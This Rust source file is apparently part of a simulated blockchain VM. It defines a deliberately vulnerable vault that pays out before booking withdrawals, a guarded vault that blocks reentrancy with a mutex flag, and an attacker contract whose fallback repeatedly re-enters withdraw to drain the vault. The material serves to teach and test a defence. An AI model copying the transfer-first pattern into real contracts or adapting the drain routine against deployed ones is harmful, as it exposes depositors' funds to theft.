//! Vaults holding per-depositor balances, and a contract that re-enters them.
//!
//! `VulnerableVault::withdraw` pays out through the value-carrying call
//! primitive and only then updates the caller's balance, so a fallback that
//! calls `withdraw` again sees the stale balance. `GuardedVault` runs the
//! same body inside a single per-contract mutex flag; a nested entry finds
//! the flag set and reverts. Solidity code would typically express the flag
//! as a modifier shared through an interface contract.

use serde_json::{json, Value};

use crate::chain::Address;
use crate::vm::{args, revert, CallContext, Prototype, VmError};

pub const VULNERABLE_VAULT: &str = "vulnerable_vault";
pub const GUARDED_VAULT: &str = "guarded_vault";
pub const EXPLOIT: &str = "exploit";

pub const REASON_REENTRANCY_BLOCKED: &str = "reentrancy-blocked";
pub const REASON_INSUFFICIENT_DEPOSIT: &str = "insufficient-deposit";

const GUARD: &str = "guard";

fn balance_key(a: &Address) -> String {
    format!("balance/{a}")
}

fn load_balance(ctx: &mut CallContext<'_, '_>, a: &Address) -> Result<u64, VmError> {
    Ok(ctx.load(&balance_key(a))?.unwrap_or(0))
}

fn deposit(ctx: &mut CallContext<'_, '_>) -> Result<Value, VmError> {
    let who = ctx.caller();
    let b = load_balance(ctx, &who)?;
    ctx.store(&balance_key(&who), &(b + ctx.value()))?;
    Ok(Value::Null)
}

/// Transfer first, then book the withdrawal.
fn withdraw_transfer_first(ctx: &mut CallContext<'_, '_>, amount: u64) -> Result<Value, VmError> {
    let who = ctx.caller();
    ctx.step(1)?;
    if load_balance(ctx, &who)? < amount {
        return Err(revert(REASON_INSUFFICIENT_DEPOSIT));
    }
    if ctx.transfer(who, amount)? {
        // reads the balance again: nested withdrawals may have run meanwhile
        let b = load_balance(ctx, &who)?;
        ctx.store(&balance_key(&who), &b.saturating_sub(amount))?;
        Ok(json!(true))
    } else {
        Ok(json!(false))
    }
}

fn balance_view(ctx: &mut CallContext<'_, '_>, a: &[Value]) -> Result<Value, VmError> {
    let who = args::address(a, 0)?;
    Ok(json!(load_balance(ctx, &who)?))
}

pub struct VulnerableVault;

impl Prototype for VulnerableVault {
    fn name(&self) -> &'static str {
        VULNERABLE_VAULT
    }

    fn methods(&self) -> &'static [&'static str] {
        &["deposit", "withdraw", "balance_of"]
    }

    fn construct(&self, _ctx: &mut CallContext<'_, '_>, _args: &[Value]) -> Result<(), VmError> {
        Ok(())
    }

    fn invoke(&self, ctx: &mut CallContext<'_, '_>, method: &str, a: &[Value]) -> Result<Value, VmError> {
        match method {
            "deposit" => deposit(ctx),
            "withdraw" => withdraw_transfer_first(ctx, args::u64(a, 0)?),
            "balance_of" => balance_view(ctx, a),
            _ => unreachable!("dispatch checks methods()"),
        }
    }
}

pub struct GuardedVault;

impl GuardedVault {
    fn guarded(
        ctx: &mut CallContext<'_, '_>,
        body: impl FnOnce(&mut CallContext<'_, '_>) -> Result<Value, VmError>,
    ) -> Result<Value, VmError> {
        if ctx.load::<bool>(GUARD)?.unwrap_or(false) {
            return Err(revert(REASON_REENTRANCY_BLOCKED));
        }
        ctx.store(GUARD, &true)?;
        let out = body(ctx)?;
        ctx.store(GUARD, &false)?;
        Ok(out)
    }
}

impl Prototype for GuardedVault {
    fn name(&self) -> &'static str {
        GUARDED_VAULT
    }

    fn methods(&self) -> &'static [&'static str] {
        &["deposit", "withdraw", "balance_of", "guard_flag"]
    }

    fn construct(&self, ctx: &mut CallContext<'_, '_>, _args: &[Value]) -> Result<(), VmError> {
        ctx.store(GUARD, &false)
    }

    fn invoke(&self, ctx: &mut CallContext<'_, '_>, method: &str, a: &[Value]) -> Result<Value, VmError> {
        match method {
            "deposit" => Self::guarded(ctx, deposit),
            "withdraw" => {
                let amount = args::u64(a, 0)?;
                Self::guarded(ctx, |ctx| withdraw_transfer_first(ctx, amount))
            }
            "balance_of" => balance_view(ctx, a),
            "guard_flag" => Ok(json!(ctx.load::<bool>(GUARD)?.unwrap_or(false))),
            _ => unreachable!("dispatch checks methods()"),
        }
    }
}

/// Attacker contract: deposits into a vault and re-enters `withdraw` from
/// its fallback for as long as the vault can pay and more than `reserve_gas`
/// remains.
///
/// Constructor args: `[vault, reserve_gas]`.
pub struct Exploit;

const EX_VAULT: &str = "vault";
const EX_OWNER: &str = "owner";
const EX_RESERVE: &str = "reserve_gas";
const EX_AMOUNT: &str = "amount";
const EX_ATTACKING: &str = "attacking";
const EX_EXTRACTED: &str = "extracted";
const EX_REENTRIES: &str = "reentries";
const EX_FAILURE: &str = "reentry_failure";

impl Prototype for Exploit {
    fn name(&self) -> &'static str {
        EXPLOIT
    }

    fn methods(&self) -> &'static [&'static str] {
        &["attack", "collect", "extracted", "reentries", "reentry_failure"]
    }

    fn has_fallback(&self) -> bool {
        true
    }

    fn construct(&self, ctx: &mut CallContext<'_, '_>, a: &[Value]) -> Result<(), VmError> {
        let vault = args::address(a, 0)?;
        let reserve = args::u64(a, 1)?;
        let owner = ctx.caller();
        ctx.store(EX_VAULT, &vault)?;
        ctx.store(EX_OWNER, &owner)?;
        ctx.store(EX_RESERVE, &reserve)
    }

    fn invoke(&self, ctx: &mut CallContext<'_, '_>, method: &str, a: &[Value]) -> Result<Value, VmError> {
        match method {
            // attack(amount): deposit the attached value, then withdraw `amount`
            "attack" => {
                let amount = args::u64(a, 0)?;
                let vault: Address = ctx.load(EX_VAULT)?.expect("set in constructor");
                ctx.store(EX_AMOUNT, &amount)?;
                ctx.store(EX_ATTACKING, &true)?;
                let deposit = ctx.value();
                ctx.call(vault, "deposit", vec![], deposit)?;
                ctx.call(vault, "withdraw", vec![json!(amount)], 0)?;
                ctx.store(EX_ATTACKING, &false)?;
                let extracted: u64 = ctx.load(EX_EXTRACTED)?.unwrap_or(0);
                ctx.emit("exploit/done", json!({ "deposit": deposit, "extracted": extracted }))?;
                Ok(json!(extracted))
            }
            "collect" => {
                let owner: Address = ctx.load(EX_OWNER)?.expect("set in constructor");
                if ctx.caller() != owner {
                    return Err(revert("unauthorized"));
                }
                let all = ctx.self_balance();
                ctx.call(owner, "", vec![], all)?;
                Ok(json!(all))
            }
            "extracted" => Ok(json!(ctx.load::<u64>(EX_EXTRACTED)?.unwrap_or(0))),
            "reentries" => Ok(json!(ctx.load::<u64>(EX_REENTRIES)?.unwrap_or(0))),
            "reentry_failure" => Ok(ctx.load::<Value>(EX_FAILURE)?.unwrap_or(Value::Null)),
            _ => unreachable!("dispatch checks methods()"),
        }
    }

    fn fallback(&self, ctx: &mut CallContext<'_, '_>) -> Result<Value, VmError> {
        let vault: Address = ctx.load(EX_VAULT)?.expect("set in constructor");
        if ctx.caller() != vault || !ctx.load::<bool>(EX_ATTACKING)?.unwrap_or(false) {
            return Ok(Value::Null);
        }
        let got: u64 = ctx.load(EX_EXTRACTED)?.unwrap_or(0);
        ctx.store(EX_EXTRACTED, &(got + ctx.value()))?;
        let amount: u64 = ctx.load(EX_AMOUNT)?.unwrap_or(0);
        let reserve: u64 = ctx.load(EX_RESERVE)?.unwrap_or(0);
        if ctx.balance_of(&vault) < amount || ctx.gas_left() <= reserve {
            return Ok(Value::Null);
        }
        let n: u64 = ctx.load(EX_REENTRIES)?.unwrap_or(0);
        ctx.store(EX_REENTRIES, &(n + 1))?;
        match ctx.call(vault, "withdraw", vec![json!(amount)], 0) {
            Ok(_) => {}
            // a blocked re-entry is recorded, not propagated, so the outer
            // withdrawal still completes
            Err(VmError::Revert(reason)) => {
                ctx.store(EX_FAILURE, &reason)?;
                ctx.emit("exploit/reentry-failed", json!({ "reason": reason }))?;
            }
            Err(e) => return Err(e),
        }
        Ok(Value::Null)
    }
}
